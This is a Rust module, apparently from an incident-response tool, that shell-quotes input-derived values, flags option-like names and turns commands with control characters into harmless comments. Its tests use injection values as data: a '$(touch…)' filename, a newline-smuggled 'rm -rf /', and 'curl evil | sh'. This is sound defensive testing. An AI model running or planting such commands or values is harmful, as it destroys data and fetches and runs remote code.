//! Commands a responder pastes into a privileged shell at 3 a.m. Programs, subcommands and
//! flags are written by trustpath; every value that comes from an input (a role name, a
//! workflow file, a secret's name) goes through [`quote`], and every command is one line
//! with no control character, so no name can end the command, start another, or expand.

/// Quotes a value for a POSIX shell: bare when it is made only of characters no shell
/// treats specially, else in single quotes (`'` written `'\''`). A value holding a
/// control character (a newline in a hostile name) is written `$'…'` with the character
/// escaped, which bash, zsh and POSIX.1-2024 shells read back to the same bytes, so
/// the command stays on one line and still names exactly the value.
pub fn quote(s: &str) -> String {
    // Bare only when no shell reads anything into it: `=x` is a path lookup in zsh.
    if !s.is_empty()
        && !s.starts_with('=')
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./:@+=,".contains(&b))
    {
        return s.to_string();
    }
    if !s.chars().any(crate::report::is_unsafe) {
        return format!("'{}'", s.replace('\'', "'\\''"));
    }
    let mut out = String::from("$'");
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if crate::report::is_unsafe(c) => {
                // Its UTF-8 bytes as \xHH: the same bytes back whatever the locale.
                let mut bytes = [0; 4];
                for b in c.encode_utf8(&mut bytes).bytes() {
                    out.push_str(&format!("\\x{b:02x}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// A key with a part (between `/`, `:` or `@`) that starts with `-`, or with a NUL: a
/// command could take the part for an option (`kubectl delete secret --all`), and no
/// shell can pass a NUL. Commands naming such a node are not offered to run.
pub fn unsafe_name(key: &str) -> bool {
    key.contains('\0')
        || key
            .split(['/', ':', '@', ' '])
            .any(|part| part.starts_with('-'))
}

/// A `# comment` for the end of a command or a line of its own: text from an input
/// stays inside it (a newline would end the comment and start a command).
pub fn comment(text: &str) -> String {
    format!("# {}", crate::report::clean(text))
}

/// The last guard on every command printed (a native graph's `revoke.commands` come from
/// a file anyone may have written): one line with no control character. A command that
/// holds one (a second line smuggled in) is shown as a comment, escaped, never as
/// something to run.
pub fn one_line(command: &str) -> String {
    if command.chars().any(char::is_control) {
        format!(
            "# NOT RUN, it holds control characters: {}",
            crate::report::clean(command)
        )
    } else {
        command.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_bare_quoted_or_escaped() {
        assert_eq!(quote("deploy.yml"), "deploy.yml");
        assert_eq!(quote("arn:aws:iam::1:role/x"), "arn:aws:iam::1:role/x");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("a b"), "'a b'");
        assert_eq!(
            quote("d$(touch${IFS}PWNED);.yml"),
            "'d$(touch${IFS}PWNED);.yml'"
        );
        assert_eq!(quote("it's"), "'it'\\''s'");
        assert_eq!(quote("a\nb"), "$'a\\nb'");
        assert_eq!(quote("x'\n\\"), "$'x\\'\\n\\\\'");
        assert_eq!(quote("bell\x07"), "$'bell\\x07'");
        assert_eq!(quote("=admin"), "'=admin'");
        assert_eq!(quote("c1\u{85}"), "$'c1\\xc2\\x85'");
        assert_eq!(quote("rtl\u{202E}"), "$'rtl\\xe2\\x80\\xae'");
        assert!(!quote("a\nb\r\x1b").chars().any(char::is_control));
    }

    #[test]
    fn quoted_values_read_back_the_same_in_bash() {
        if std::process::Command::new("bash")
            .arg("--version")
            .output()
            .is_err()
        {
            return;
        }
        for value in [
            "plain",
            "two words",
            "d$(echo>PWNED);.yml",
            "`echo>PWNED`",
            "it's; echo>PWNED",
            "line\necho>PWNED",
            "tab\there\r\x1b[31m",
            "c1\u{85}del\x7f rtl\u{202E}",
            "back\\slash'quote\"",
            "é ✓ 鍵",
        ] {
            let script = format!("printf %s {}", quote(value));
            let out = std::process::Command::new("bash")
                .args(["--norc", "-c", &script])
                .output()
                .expect("bash runs");
            assert_eq!(String::from_utf8_lossy(&out.stdout), value, "{script}");
        }
    }

    #[test]
    fn option_like_and_nul_names_are_unsafe() {
        assert!(unsafe_name("k8s:prod:secret:ns/--all"));
        assert!(unsafe_name("arn:aws:iam::1:user/-x"));
        assert!(unsafe_name("a\0b"));
        assert!(!unsafe_name("arn:aws:iam::1:role/deploy-x"));
        assert!(!unsafe_name("github:action:tj-style/changed-files@v45"));
    }

    #[test]
    fn comments_and_input_commands_stay_on_one_line() {
        assert_eq!(
            comment("uses: x@v1\nrm -rf /"),
            "# uses: x@v1\\u{a}rm -rf /"
        );
        assert_eq!(
            one_line("gh secret list\ncurl evil | sh"),
            "# NOT RUN, it holds control characters: gh secret list\\u{a}curl evil | sh"
        );
        assert_eq!(one_line("gh secret list"), "gh secret list");
    }
}
